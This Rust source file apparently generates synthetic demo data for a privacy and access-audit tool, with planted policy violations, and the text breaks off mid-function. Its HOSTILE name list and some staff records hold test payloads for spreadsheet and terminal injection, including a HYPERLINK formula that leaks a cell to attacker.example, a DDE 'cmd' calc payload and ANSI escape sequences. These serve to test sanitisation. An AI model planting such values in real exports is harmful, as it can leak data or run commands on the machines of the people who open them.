//! The demo generator: a luxury online retailer ("Maison Aurelle") with
//! staff, customers, tickets, client books, orders, an access audit log,
//! legal requests and privacy requests, and a planted violation of every rule
//! in CONTRACT section 5. Deterministic: the same seed, event count and
//! anchor date give the same rows.

use chrono::{Datelike, Duration, NaiveDate, TimeZone, Utc, Weekday};
use chrono_tz::Tz;

use super::DemoError;
use super::schema::{self, TableDef};
use super::write::{DRow, DVal, DemoDb};
use crate::model::Instant;

/// The demo company's policy zone (assets/demo-policy.toml says the same).
pub const TZ: Tz = chrono_tz::America::New_York;
/// Days of access history before the anchor.
pub const HISTORY_DAYS: i64 = 90;
pub const GENERATOR_VERSION: &str = "3";

#[derive(Debug, Clone)]
pub struct DemoSettings {
    pub events: u64,
    pub seed: u64,
    /// First local day after the history (exclusive end).
    pub anchor: NaiveDate,
}

/// SplitMix64: small, fast and stable across releases of any crate. Also
/// drives the scale benchmark's generator (`examples/scale_gen.rs`).
pub struct Rng(pub u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    pub fn below(&mut self, n: u64) -> u64 {
        if n == 0 { 0 } else { self.next() % n }
    }
    pub fn range(&mut self, lo: i64, hi: i64) -> i64 {
        lo + self.below((hi - lo).max(1) as u64) as i64
    }
    pub fn chance(&mut self, p: f64) -> bool {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64 <= p
    }
    pub fn pick<'a, T>(&mut self, v: &'a [T]) -> &'a T {
        &v[self.below(v.len() as u64) as usize]
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    Support,
    ClientManager,
    Marketing,
    Finance,
    Legal,
    Privacy,
    Engineering,
    Warehouse,
    Contractor,
}

impl Role {
    fn job_family(self) -> &'static str {
        match self {
            Role::Support => "Customer Care",
            Role::ClientManager => "Private Client",
            Role::Marketing => "Marketing",
            Role::Finance => "Finance",
            Role::Legal => "Legal",
            Role::Privacy => "Privacy Office",
            Role::Engineering => "Engineering",
            Role::Warehouse => "Warehouse",
            Role::Contractor => "Contractor",
        }
    }
    fn share(self, wd: Weekday) -> f64 {
        use Role::*;
        match wd {
            Weekday::Sun => match self {
                ClientManager => 1.0,
                _ => 0.0,
            },
            Weekday::Sat => match self {
                Support => 0.55,
                Warehouse => 0.3,
                ClientManager => 0.15,
                _ => 0.0,
            },
            _ => match self {
                Support => 0.45,
                ClientManager => 0.12,
                Warehouse => 0.15,
                Marketing => 0.08,
                Finance => 0.08,
                Engineering => 0.06,
                Legal => 0.03,
                Privacy => 0.03,
                Contractor => 0.0005,
            },
        }
    }
}

const ROLES: [Role; 9] = [
    Role::Support,
    Role::ClientManager,
    Role::Marketing,
    Role::Finance,
    Role::Legal,
    Role::Privacy,
    Role::Engineering,
    Role::Warehouse,
    Role::Contractor,
];

const FIRST: &[&str] = &[
    "Ava",
    "Liam",
    "Olivia",
    "Noah",
    "Emma",
    "Mateo",
    "Sofia",
    "Lucas",
    "Amelia",
    "Hugo",
    "Chloé",
    "Léa",
    "Jonas",
    "Mia",
    "Elias",
    "Freya",
    "Aarav",
    "Priya",
    "Kenji",
    "Yuki",
    "Amara",
    "Kwame",
    "Zainab",
    "Omar",
    "Layla",
    "Diego",
    "Valentina",
    "Isabella",
    "Camille",
    "Théo",
    "Giulia",
    "Marco",
    "Ingrid",
    "Sven",
    "Aoife",
    "Cian",
    "Niamh",
    "Grace",
    "Henry",
    "Charlotte",
    "Oscar",
    "Ruby",
    "Leo",
    "Nora",
    "Felix",
    "Clara",
    "Anton",
    "Maja",
    "Ines",
    "Rafael",
    "Lucía",
    "Ethan",
    "Harper",
    "Zoë",
    "Malik",
    "Aisha",
    "Wei",
    "Mei",
    "Hana",
    "Tomás",
];

const LAST: &[&str] = &[
    "Smith",
    "Johnson",
    "Williams",
    "Brown",
    "Jones",
    "Garcia",
    "Miller",
    "Davis",
    "Rodriguez",
    "Martinez",
    "Hernandez",
    "Lopez",
    "Gonzalez",
    "Wilson",
    "Anderson",
    "Thomas",
    "Taylor",
    "Moore",
    "Jackson",
    "Martin",
    "Lee",
    "Perez",
    "Thompson",
    "White",
    "Harris",
    "Sanchez",
    "Clark",
    "Ramirez",
    "Lewis",
    "Robinson",
    "Walker",
    "Young",
    "Allen",
    "King",
    "Wright",
    "Scott",
    "Torres",
    "Nguyen",
    "Hill",
    "Flores",
    "Green",
    "Adams",
    "Nelson",
    "Baker",
    "Hall",
    "Rivera",
    "Campbell",
    "Mitchell",
    "Carter",
    "Roberts",
    "Dubois",
    "Lefebvre",
    "Moreau",
    "Laurent",
    "Müller",
    "Schmidt",
    "Schneider",
    "Fischer",
    "Weber",
    "Rossi",
    "Russo",
    "Ferrari",
    "Esposito",
    "Bianchi",
    "Murphy",
    "Kelly",
    "O'Brien",
    "Byrne",
    "Walsh",
    "Jansen",
    "de Vries",
    "van Dijk",
    "Bakker",
    "Fernández",
    "García",
    "Martín",
    "Sánchez",
    "Patel",
    "Shah",
    "Singh",
    "Kumar",
    "Tanaka",
    "Suzuki",
    "Sato",
    "Kim",
    "Park",
    "Chen",
    "Wang",
    "Li",
    "Zhang",
    "Okafor",
    "Mensah",
    "Haddad",
    "Nasser",
    "Novak",
    "Kowalski",
    "Nowak",
    "Silva",
    "Santos",
    "Costa",
];

const STREETS: &[&str] = &[
    "Harbor Lane",
    "Maple Avenue",
    "Rue de Rivoli",
    "King's Road",
    "Elm Street",
    "Via Roma",
    "Bahnhofstraße",
    "Queen Street West",
    "Ocean Drive",
    "Market Street",
    "Calle Mayor",
    "Prinsengracht",
    "Grafton Street",
    "Lexington Avenue",
    "Sunset Boulevard",
    "Beacon Street",
    "Rue du Bac",
    "Marylebone High Street",
];

/// (country, region, city, weight)
const PLACES: &[(&str, &str, &str, u32)] = &[
    ("US", "CA", "Los Angeles", 14),
    ("US", "NY", "New York", 14),
    ("US", "TX", "Dallas", 7),
    ("US", "FL", "Miami", 7),
    ("US", "WA", "Seattle", 4),
    ("US", "CO", "Denver", 3),
    ("US", "IL", "Chicago", 5),
    ("US", "MA", "Boston", 4),
    ("FR", "IDF", "Paris", 8),
    ("DE", "BE", "Berlin", 5),
    ("IT", "MI", "Milan", 4),
    ("ES", "MD", "Madrid", 3),
    ("NL", "NH", "Amsterdam", 2),
    ("IE", "D", "Dublin", 2),
    ("GB", "LND", "London", 10),
    ("CA", "ON", "Toronto", 4),
    ("CA", "QC", "Montréal", 2),
    ("CA", "BC", "Vancouver", 2),
];

/// Names that try to break terminals and spreadsheets.
const HOSTILE: &[(&str, &str)] = &[
    (
        "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click\")",
        "Formula",
    ),
    ("+SUM(1+1)*cmd|' /C calc'!A0", "Plus"),
    ("@SUM(A1:A9)", "At"),
    ("-2+3", "Minus"),
    ("Eve\u{1b}[2J\u{1b}[31m", "Escape"),
    ("\rMallory", "\u{202e}gnp.exe"),
    ("秀英", "王"),
    ("محمد", "الفاسي"),
    ("\tZoë\u{7}\u{8}\u{8}", "Bell\r\nInjected"),
];

struct Employee {
    emp_no: i64,
    role: Role,
    first: String,
    last: String,
    address: String,
    hired: NaiveDate,
    left_at: Option<Instant>,
    ip: String,
}

struct Customer {
    id: i64,
    vip: bool,
    employee_no: Option<i64>,
}

struct Ev {
    at: Instant,
    emp: i64,
    cust: Option<i64>,
    op: &'static str,
    dataset: &'static str,
    reason: Option<String>,
    case_ref: Option<String>,
    ip: String,
    rows: i64,
    planted: Vec<(&'static str, String)>,
}

#[derive(Debug, Default, Clone)]
pub struct Counts(pub Vec<(&'static str, u64)>);

struct Gen {
    rng: Rng,
    start: NaiveDate,
    anchor: NaiveDate,
    staff: Vec<Employee>,
    customers: Vec<Customer>,
    plain: Vec<i64>,
    tickets: Vec<DRow>,
    orders: Vec<DRow>,
    planted: Vec<DRow>,
    books: Vec<(i64, Vec<i64>)>,
    ticket_seq: i64,
    order_seq: i64,
    legal_customers: Vec<i64>,
    deleted: Vec<i64>,
    access_requests: Vec<i64>,
    support_pool: Vec<i64>,
    deleted_planted: Option<i64>,
    opted_out_planted: Option<i64>,
}

impl Gen {
    /// A local wall-clock time on day `d` (0 = first day of history) as UTC.
    fn at(&self, d: i64, h: u32, m: u32, s: u32) -> Instant {
        local(self.start + Duration::days(d), h, m, s)
    }
    /// A random local time on day `d` with the hour in `[lo, hi)`.
    fn rand_at(&mut self, d: i64, lo: i64, hi: i64) -> Instant {
        let (h, m, s) = (
            self.rng.range(lo, hi),
            self.rng.range(0, 60),
            self.rng.range(0, 60),
        );
        self.at(d, h as u32, m as u32, s as u32)
    }
    fn day_of(&self, back: i64) -> i64 {
        (self.anchor - self.start).num_days() - back
    }
    fn emp(&self, no: i64) -> &Employee {
        self.staff
            .iter()
            .find(|e| e.emp_no == no)
            .expect("planted staff exists")
    }
    fn plant(&mut self, rule: &'static str, key: String, note: &str) {
        self.planted
            .push(vec![rule.into(), key.into(), note.into()]);
    }
}

pub fn local(date: NaiveDate, h: u32, m: u32, s: u32) -> Instant {
    let naive = date.and_hms_opt(h, m, s).expect("valid time");
    match TZ.from_local_datetime(&naive) {
        chrono::LocalResult::Single(t) | chrono::LocalResult::Ambiguous(t, _) => {
            t.with_timezone(&Utc)
        }
        chrono::LocalResult::None => TZ
            .from_local_datetime(&(naive + Duration::hours(1)))
            .earliest()
            .expect("an hour later exists")
            .with_timezone(&Utc),
    }
}

fn local_day(t: Instant) -> NaiveDate {
    t.with_timezone(&TZ).date_naive()
}

/// Builds the whole demo into `db`, calling `progress` with a short line per step.
pub async fn build(
    db: &mut DemoDb,
    s: &DemoSettings,
    mut progress: impl FnMut(String),
) -> Result<Counts, DemoError> {
    let start = s.anchor - Duration::days(HISTORY_DAYS);
    let mut g = Gen {
        rng: Rng(s.seed ^ 0x6B65_7968_6F6C_6521),
        start,
        anchor: s.anchor,
        staff: Vec::new(),
        customers: Vec::new(),
        plain: Vec::new(),
        tickets: Vec::new(),
        orders: Vec::new(),
        planted: Vec::new(),
        books: Vec::new(),
        ticket_seq: 70_000,
        order_seq: 500_000,
        legal_customers: Vec::new(),
        deleted: Vec::new(),
        access_requests: Vec::new(),
        support_pool: Vec::new(),
        deleted_planted: None,
        opted_out_planted: None,
    };
    let mut counts = Counts::default();
    db.create_schema().await?;
    db.begin().await?;

    let employees = g.make_staff();
    write(db, &schema::EMPLOYEES, &employees, &mut counts).await?;
    let customers = g.make_customers();
    write(db, &schema::CUSTOMERS, &customers, &mut counts).await?;
    let book = g.make_books();
    write(db, &schema::CLIENT_BOOK, &book, &mut counts).await?;
    let requests = g.make_privacy_requests();
    g.support_pool = g.support_pool_now();
    write(db, &schema::PRIVACY_REQUESTS, &requests, &mut counts).await?;
    let (legal, records) = g.make_legal();
    write(db, &schema::LEGAL_REQUESTS, &legal, &mut counts).await?;
    write(db, &schema::LEGAL_RECORDS, &records, &mut counts).await?;
    progress(format!(
        "people and requests written; generating {} access events",
        s.events
    ));

    let total_weight: f64 = (0..HISTORY_DAYS)
        .map(|d| day_weight((start + Duration::days(d)).weekday()))
        .sum();
    let mut next_id: i64 = 1_000_001;
    let mut produced: u64 = 0;
    let mut buf: Vec<DRow> = Vec::with_capacity(20_000);
    for d in 0..HISTORY_DAYS {
        let date = start + Duration::days(d);
        let cum: f64 = (0..=d)
            .map(|x| day_weight((start + Duration::days(x)).weekday()))
            .sum();
        let want = ((s.events as f64) * cum / total_weight).round() as u64;
        // Planted events count toward the day's share, so --events is exact.
        let planted = g.planted_events(d);
        let budget = want.saturating_sub(produced + planted.len() as u64);
        let mut evs = g.day_events(d, date, budget);
        evs.extend(planted);
        evs.sort_by_key(|e| e.at);
        for ev in evs {
            let id = next_id;
            next_id += 1;
            for (rule, key) in &ev.planted {
                let key = if key.is_empty() {
                    id.to_string()
                } else {
                    key.clone()
                };
                g.plant(rule, key, "");
            }
            produced += 1;
            buf.push(vec![
                id.into(),
                ev.at.into(),
                ev.emp.into(),
                ev.cust.into(),
                ev.op.into(),
                ev.dataset.into(),
                ev.reason.into(),
                ev.case_ref.into(),
                ev.ip.into(),
                ev.rows.into(),
            ]);
            if buf.len() >= 16_000 {
                db.insert(&schema::ACCESS_AUDIT, &buf).await?;
                buf.clear();
            }
        }
        if d % 15 == 14 {
            progress(format!(
                "{} of {} days, {} events",
                d + 1,
                HISTORY_DAYS,
                next_id - 1_000_001
            ));
        }
    }
    db.insert(&schema::ACCESS_AUDIT, &buf).await?;
    counts
        .0
        .push(("access_audit", (next_id - 1_000_001) as u64));

    let tickets = std::mem::take(&mut g.tickets);
    write(db, &schema::TICKETS, &tickets, &mut counts).await?;
    let orders = std::mem::take(&mut g.orders);
    write(db, &schema::ORDERS, &orders, &mut counts).await?;
    let planted = std::mem::take(&mut g.planted);
    write(db, &schema::PLANTED, &planted, &mut counts).await?;
    let meta: Vec<DRow> = vec![
        vec!["seed".into(), s.seed.to_string().into()],
        vec!["events".into(), s.events.to_string().into()],
        vec!["anchor".into(), s.anchor.to_string().into()],
        vec!["generator".into(), GENERATOR_VERSION.into()],
        vec!["timezone".into(), TZ.name().into()],
    ];
    db.insert(&schema::META, &meta).await?;
    db.create_indexes().await?;
    db.commit().await?;
    Ok(counts)
}

async fn write(
    db: &mut DemoDb,
    t: &TableDef,
    rows: &[DRow],
    counts: &mut Counts,
) -> Result<(), DemoError> {
    db.insert(t, rows).await?;
    counts.0.push((t.name, rows.len() as u64));
    Ok(())
}

fn day_weight(wd: Weekday) -> f64 {
    match wd {
        Weekday::Sat => 0.45,
        Weekday::Sun => 0.15,
        _ => 1.0,
    }
}

fn email_of(first: &str, last: &str, n: i64, domain: &str) -> String {
    let clean = |s: &str| -> String {
        s.chars()
            .filter(|c| c.is_ascii_alphanumeric())
            .collect::<String>()
            .to_lowercase()
    };
    let (f, l) = (clean(first), clean(last));
    let f = if f.is_empty() { "user".to_string() } else { f };
    let l = if l.is_empty() { format!("{n}") } else { l };
    format!("{f}.{l}{}@{domain}", n % 97)
}

impl Gen {
    fn make_staff(&mut self) -> Vec<DRow> {
        let layout: [(Role, i64, i64); 9] = [
            (Role::Support, 101, 150),
            (Role::ClientManager, 151, 165),
            (Role::Marketing, 166, 177),
            (Role::Finance, 178, 189),
            (Role::Legal, 190, 195),
            (Role::Privacy, 196, 199),
            (Role::Engineering, 200, 223),
            (Role::Warehouse, 224, 248),
            (Role::Contractor, 249, 250),
        ];
        for (role, lo, hi) in layout {
            for no in lo..=hi {
                let first = self.rng.pick(FIRST).to_string();
                let last = self.rng.pick(LAST).to_string();
                let years = self.rng.range(1, 9);
                let hired = self.anchor - Duration::days(years * 365 + self.rng.range(0, 300));
                let address = format!("{} Residence Court, Unit {}", self.rng.range(1, 400), no);
                let ip = format!(
                    "10.{}.{}.{}",
                    20 + role as u8,
                    self.rng.range(1, 250),
                    self.rng.range(2, 250)
                );
                self.staff.push(Employee {
                    emp_no: no,
                    role,
                    first,
                    last,
                    address,
                    hired,
                    left_at: None,
                    ip,
                });
            }
        }
        // Planted circumstances.
        let a = self.anchor;
        let term_day = self.day_of(20);
        let left = self.at(term_day, 17, 30, 0);
        self.staff_mut(117).left_at = Some(left);
        {
            let e = self.staff_mut(132);
            e.left_at = Some(local(a - Duration::days(400), 12, 0, 0));
            e.hired = a - Duration::days(300);
        }
        self.staff_mut(125).hired = a - Duration::days(20);
        self.staff_mut(104).hired = a - Duration::days(900);
        self.staff_mut(182).address = "12 Harbor Lane, Apt. 3B, Boston".into();
        self.staff_mut(183).last = "Vasquez-Oyelaran".into();
        {
            let e = self.staff_mut(166);
            e.first = "Eve\u{1b}]0;owned\u{7}".into();
        }
        {
            let e = self.staff_mut(208);
            e.first = "@Robert".into();
            e.last = "=1+1".into();
        }
        // Every start of a cell a spreadsheet would run or hide (a tab or CR
        // is trimmed away as the contract reads text).
        for (no, first) in [(209, "+"), (210, "-"), (211, "\t"), (212, "\r"), (213, "=")] {
            let e = self.staff_mut(no);
            e.first = format!("{first}{}", e.first);
        }
        self.staff
            .iter()
            .map(|e| {
                vec![
                    e.emp_no.into(),
                    e.first.clone().into(),
                    e.last.clone().into(),
                    e.role.job_family().into(),
                    format!(
                        "{} — {}",
                        e.role.job_family(),
                        ["East", "West", "EMEA"][(e.emp_no % 3) as usize]
                    )
                    .into(),
                    email_of(&e.first, &e.last, e.emp_no, "aurelle.example").into(),
                    e.address.clone().into(),
                    format!("u{}", e.emp_no).into(),
                    DVal::Date(e.hired),
                    e.left_at.into(),
                ]
            })
            .collect()
    }

    fn staff_mut(&mut self, no: i64) -> &mut Employee {
        self.staff
            .iter_mut()
            .find(|e| e.emp_no == no)
            .expect("planted staff exists")
    }

    fn make_customers(&mut self) -> Vec<DRow> {
        let n = 20_000i64;
        let total_w: u32 = PLACES.iter().map(|p| p.3).sum();
        // Staff who are also customers: every 4th employee, plus the planted ones.
        let mut employee_customers: Vec<i64> = self
            .staff
            .iter()
            .map(|e| e.emp_no)
            .filter(|no| no % 4 == 0 || *no == 140 || *no == 205)
            .collect();
        employee_customers.sort();
        employee_customers.dedup();
        let mut rows = Vec::with_capacity(n as usize);
        for i in 0..n {
            let id = 10_001 + i;
            let mut first = self.rng.pick(FIRST).to_string();
            let mut last = self.rng.pick(LAST).to_string();
            let mut w = self.rng.below(total_w as u64) as u32;
            let mut place = PLACES[0];
            for p in PLACES {
                if w < p.3 {
                    place = *p;
                    break;
                }
                w -= p.3;
            }
            let mut street = format!("{} {}", self.rng.range(1, 2000), self.rng.pick(STREETS));
            let mut city = place.2.to_string();
            let vip = self.rng.chance(0.03);
            let mut employee_no = None;
            if (i as usize) < employee_customers.len() {
                let e = self.emp(employee_customers[i as usize]);
                first = e.first.clone();
                last = e.last.clone();
                street = e.address.clone();
                city = String::new();
                employee_no = Some(e.emp_no);
            }
            let k = i as usize - employee_customers.len().min(i as usize);
            if employee_no.is_none() && k < HOSTILE.len() {
                first = HOSTILE[k].0.to_string();
                last = HOSTILE[k].1.to_string();
            }
            match id {
                // Same home as staff 142, written differently.
                15_000 => {
                    street = "12 HARBOR LANE APT 3B".into();
                    city = "Boston".into();
                }
                // Same rare family name as staff 143.
                15_001 => last = "Vasquez-Oyelaran".into(),
                _ => {}
            }
            let vip = vip && employee_no.is_none() && !(15_000..15_010).contains(&id);
            let phone = format!(
                "+1-555-{:03}-{:04}",
                self.rng.range(100, 999),
                self.rng.range(0, 9999)
            );
            rows.push(vec![
                id.into(),
                first.clone().into(),
                last.clone().into(),
                email_of(&first, &last, id, "mail.example").into(),
                phone.into(),
                street.into(),
                (if city.is_empty() { None } else { Some(city) }).into(),
                place.1.into(),
                place.0.into(),
                (if vip { "vip" } else { "standard" }).into(),
                employee_no.into(),
            ]);
            self.customers.push(Customer {
                id,
                vip,
                employee_no,
            });
        }
        self.plain = self
            .customers
            .iter()
            .filter(|c| !c.vip && c.employee_no.is_none() && !(15_000..15_010).contains(&c.id))
            .map(|c| c.id)
            .collect();
        rows
    }

    fn make_books(&mut self) -> Vec<DRow> {
        let managers: Vec<i64> = self
            .staff
            .iter()
            .filter(|e| e.role == Role::ClientManager)
            .map(|e| e.emp_no)
            .collect();
        let mut vips: Vec<i64> = self
            .customers
            .iter()
            .filter(|c| c.vip)
            .map(|c| c.id)
            .collect();
        let mut rows = Vec::new();
        let since = local(self.anchor - Duration::days(400), 9, 0, 0);
        for (k, m) in managers.iter().enumerate() {
            let mut book = Vec::new();
            for _ in 0..40 {
                let c = if let Some(v) = vips.pop() {
                    v
                } else {
                    self.plain[(k * 97 + book.len() * 13) % self.plain.len()]
                };
                book.push(c);
                rows.push(vec![(*m).into(), c.into(), since.into(), DVal::Null]);
            }
            self.books.push((*m, book));
        }
        // A released assignment: later accesses by that manager are unexplained.
        if let Some((m, book)) = self.books.first_mut() {
            let released = book.pop().expect("book has clients");
            let end = local(self.anchor - Duration::days(40), 18, 0, 0);
            if let Some(r) = rows
                .iter_mut()
                .find(|r| r[0] == DVal::Int(*m) && r[1] == DVal::Int(released))
            {
                r[3] = end.into();
            }
        }
        rows
    }

    fn take_plain(&mut self) -> i64 {
        let i = self.rng.below(self.plain.len() as u64) as usize;
        self.plain.swap_remove(i)
    }

    fn make_privacy_requests(&mut self) -> Vec<DRow> {
        let mut rows = Vec::new();
        let mut seq = 1000;
        let mut push = |rows: &mut Vec<DRow>,
                        c: i64,
                        kind: &str,
                        via: &str,
                        rec: Instant,
                        done: Option<Instant>,
                        st: Option<&str>| {
            seq += 1;
            let id = format!("PR-{seq}");
            rows.push(vec![
                id.clone().into(),
                c.into(),
                kind.into(),
                via.into(),
                rec.into(),
                done.into(),
                st.map(str::to_string).into(),
            ]);
            id
        };
        let vias = ["email", "phone", "web"];
        for (kind, n, grace) in [
            ("opt_out", 300, 10),
            ("deletion", 80, 30),
            ("access", 50, 30),
            ("correction", 40, 30),
        ] {
            for _ in 0..n {
                let c = self.take_plain();
                let day = self.rng.range(-120, HISTORY_DAYS - 2);
                let rec = self.rand_at(day, 8, 18);
                let done = rec
                    + Duration::days(self.rng.range(0, grace - 1))
                    + Duration::hours(self.rng.range(1, 8));
                let via = *self.rng.pick(&vias);
                let (done, status) = if self.rng.chance(0.05) {
                    (None, Some(*self.rng.pick(&["denied", "withdrawn"])))
                } else if done.date_naive() >= self.anchor {
                    (None, None)
                } else {
                    (Some(done), Some("completed"))
                };
                push(&mut rows, c, kind, via, rec, done, status);
                if kind == "deletion" && status != Some("denied") && status != Some("withdrawn") {
                    self.deleted.push(c);
                }
                if kind == "access" {
                    self.access_requests.push(c);
                }
            }
        }
        // Planted: deletion honoured on paper, then support looks anyway.
        let c_del = self.take_plain();
        let (r, dn) = (
            self.at(self.day_of(60), 10, 0, 0),
            self.at(self.day_of(45), 11, 0, 0),
        );
        push(
            &mut rows,
            c_del,
            "deletion",
            "web",
            r,
            Some(dn),
            Some("completed"),
        );
        self.deleted_planted = Some(c_del);
        // Planted: opt-out completed, marketing campaign touches the person later.
        let c_opt = self.take_plain();
        let (r, dn) = (
            self.at(self.day_of(50), 9, 30, 0),
            self.at(self.day_of(48), 9, 0, 0),
        );
        push(
            &mut rows,
            c_opt,
            "opt_out",
            "phone",
            r,
            Some(dn),
            Some("completed"),
        );
        self.opted_out_planted = Some(c_opt);
        // Planted: a deletion request left open past its 30-day grace.
        let c_over = self.take_plain();
        let r = self.at(self.day_of(45), 14, 0, 0);
        let id = push(&mut rows, c_over, "deletion", "email", r, None, None);
        self.deleted.push(c_over);
        self.plant("request_overdue", id, "deletion request open past 30 days");
        // Negative case: a denied deletion request does not count.
        let c_den = self.take_plain();
        let r = self.at(self.day_of(70), 14, 0, 0);
        push(
            &mut rows,
            c_den,
            "deletion",
            "email",
            r,
            None,
            Some("denied"),
        );
        self.plain.push(c_den);
        rows
    }
}

impl Gen {
    fn make_legal(&mut self) -> (Vec<DRow>, Vec<DRow>) {
        let mut reqs = Vec::new();
        let mut recs = Vec::new();
        let approvers = ["Dana Whitfield (General Counsel)", "R. Okafor (Deputy GC)"];
        let kinds: [(&str, &str, i64, &str); 9] = [
            (
                "subpoena",
                "Superior Court of California, County of Los Angeles",
                14,
                "contact,order_history",
            ),
            (
                "court_order",
                "U.S. District Court, S.D.N.Y.",
                30,
                "contact,order_history,payment",
            ),
            (
                "search_warrant",
                "Miami-Dade Police Department",
                10,
                "contact,order_history",
            ),
            (
                "emergency_request",
                "Metropolitan Police Service",
                1,
                "contact",
            ),
            (
                "preservation_request",
                "Texas Attorney General",
                90,
                "order_history",
            ),
            (
                "national_security",
                "Federal Bureau of Investigation",
                30,
                "contact",
            ),
            ("subpoena", "Tribunal judiciaire de Paris", 21, "contact"),
            (
                "court_order",
                "Ontario Superior Court of Justice",
                30,
                "contact,payment",
            ),
            (
                "partner_share",
                "Atelier Lumen (loyalty partner)",
                0,
                "contact,preferences",
            ),
        ];
        let mut id = 0i64;
        for round in 0..4 {
            for (kind, party, due_days, scope) in kinds {
                id += 1;
                let day = self.rng.range(-90, HISTORY_DAYS - 15);
                let rec = self.rand_at(day, 9, 17);
                let due = (due_days > 0).then(|| rec + Duration::days(due_days));
                let produces =
                    kind != "preservation_request" && !(round == 3 && kind == "subpoena");
                let answered =
                    rec + Duration::days((due_days.max(2) - 1).min(self.rng.range(1, 8)));
                let state = if kind == "preservation_request" {
                    "produced"
                } else if produces {
                    if self.rng.chance(0.2) {
                        "partially_produced"
                    } else {
                        "produced"
                    }
                } else {
                    "rejected"
                };
                let gag = (kind == "national_security" || (kind == "subpoena" && round % 2 == 0))
                    .then(|| rec + Duration::days(180));
                let nda = (kind == "partner_share").then(|| format!("NDA-2026-{:03}", id));
                reqs.push(vec![
                    id.into(),
                    kind.into(),
                    party.into(),
                    format!("{}-{}-{:04}", &kind[..2].to_uppercase(), 2026, 100 + id).into(),
                    rec.into(),
                    due.into(),
                    Some(answered).into(),
                    state.into(),
                    Some(*self.rng.pick(&approvers)).into(),
                    gag.into(),
                    DVal::Null,
                    scope.into(),
                    nda.into(),
                ]);
                if produces && kind != "preservation_request" {
                    let cats: Vec<&str> = scope.split(',').collect();
                    for _ in 0..self.rng.range(1, 4) {
                        let c = *self.rng.pick(&self.plain);
                        self.legal_customers.push(c);
                        recs.push(vec![
                            id.into(),
                            c.into(),
                            (*self.rng.pick(&cats)).into(),
                            Some(answered).into(),
                        ]);
                    }
                }
            }
        }
        let mut planted = |g: &mut Gen, row: DRow, rule: &'static str, note: &str| {
            let rid = match &row[0] {
                DVal::Int(i) => *i,
                _ => 0,
            };
            reqs.push(row);
            g.plant(rule, rid.to_string(), note);
        };
        // Overdue: a subpoena due 16 days ago with no answer.
        id += 1;
        let rec = self.at(self.day_of(30), 10, 0, 0);
        planted(
            self,
            vec![
                id.into(),
                "subpoena".into(),
                "Cook County State's Attorney".into(),
                "SU-2026-0901".into(),
                rec.into(),
                (rec + Duration::days(14)).into(),
                DVal::Null,
                "open".into(),
                DVal::Null,
                DVal::Null,
                DVal::Null,
                "contact".into(),
                DVal::Null,
            ],
            "disclosure_overdue",
            "subpoena past due with no response",
        );
        // Unapproved: a court order produced without an approver.
        id += 1;
        let rec = self.at(self.day_of(25), 11, 0, 0);
        let sent = rec + Duration::days(3);
        planted(
            self,
            vec![
                id.into(),
                "court_order".into(),
                "King County Superior Court".into(),
                "CO-2026-0902".into(),
                rec.into(),
                (rec + Duration::days(30)).into(),
                sent.into(),
                "produced".into(),
                DVal::Null,
                DVal::Null,
                DVal::Null,
                "contact".into(),
                DVal::Null,
            ],
            "disclosure_unapproved",
            "court order produced with no approver",
        );
        let c = *self.rng.pick(&self.plain);
        recs.push(vec![id.into(), c.into(), "contact".into(), sent.into()]);
        // Out of scope: a warrant for contact data answered with payment data too.
        id += 1;
        let rec = self.at(self.day_of(22), 9, 0, 0);
        let sent = rec + Duration::days(2);
        planted(
            self,
            vec![
                id.into(),
                "search_warrant".into(),
                "Denver Police Department".into(),
                "SW-2026-0903".into(),
                rec.into(),
                (rec + Duration::days(10)).into(),
                sent.into(),
                "produced".into(),
                "Dana Whitfield (General Counsel)".into(),
                DVal::Null,
                DVal::Null,
                "Contact, order_history".into(),
                DVal::Null,
            ],
            "disclosure_out_of_scope",
            "warrant for contact and order history answered with payment data",
        );
        let c = *self.rng.pick(&self.plain);
        recs.push(vec![id.into(), c.into(), "contact".into(), sent.into()]);
        recs.push(vec![id.into(), c.into(), "payment".into(), sent.into()]);
        // Share without agreement.
        id += 1;
        let rec = self.at(self.day_of(18), 15, 0, 0);
        let sent = rec + Duration::days(1);
        planted(
            self,
            vec![
                id.into(),
                "partner_share".into(),
                "Velours Travel (co-marketing partner)".into(),
                DVal::Null,
                rec.into(),
                DVal::Null,
                sent.into(),
                "produced".into(),
                "Head of Partnerships".into(),
                DVal::Null,
                DVal::Null,
                "contact".into(),
                DVal::Null,
            ],
            "share_without_agreement",
            "partner share with no agreement on file",
        );
        for _ in 0..25 {
            let c = *self.rng.pick(&self.plain);
            recs.push(vec![id.into(), c.into(), "contact".into(), sent.into()]);
        }
        // Acquisition transfer: subjects told five days after their data went out.
        id += 1;
        let rec = self.at(self.day_of(40), 10, 0, 0);
        let sent = self.at(self.day_of(15), 12, 0, 0);
        planted(
            self,
            vec![
                id.into(),
                "acquisition_transfer".into(),
                "Maison Héritage SAS (acquirer of the Paris boutique)".into(),
                "APA-2026-PARIS".into(),
                rec.into(),
                DVal::Null,
                sent.into(),
                "produced".into(),
                "Board resolution 2026-17".into(),
                DVal::Null,
                self.at(self.day_of(10), 12, 0, 0).into(),
                "contact,order_history".into(),
                "APA-2026-PARIS".into(),
            ],
            "notice_missing",
            "acquirer received customer data before the customers were notified",
        );
        for k in 0..150 {
            let c = self.plain[(k * 31) % self.plain.len()];
            let cat = if k % 2 == 0 {
                "contact"
            } else {
                "order_history"
            };
            recs.push(vec![id.into(), c.into(), cat.into(), sent.into()]);
        }
        self.legal_customers.sort();
        self.legal_customers.dedup();
        (reqs, recs)
    }

    fn staff_of(&self, role: Role, date: NaiveDate) -> Vec<usize> {
        self.staff
            .iter()
            .enumerate()
            .filter(|(_, e)| {
                e.role == role
                    && e.hired <= date
                    && e.left_at
                        .is_none_or(|l| l.date_naive() > date || e.hired > l.date_naive())
            })
            .map(|(i, _)| i)
            .collect()
    }

    /// Ordinary, explainable work for one day, about `budget` events.
    fn day_events(&mut self, d: i64, date: NaiveDate, budget: u64) -> Vec<Ev> {
        let wd = date.weekday();
        let shares: Vec<(Role, f64)> = ROLES
            .iter()
            .map(|r| (*r, r.share(wd)))
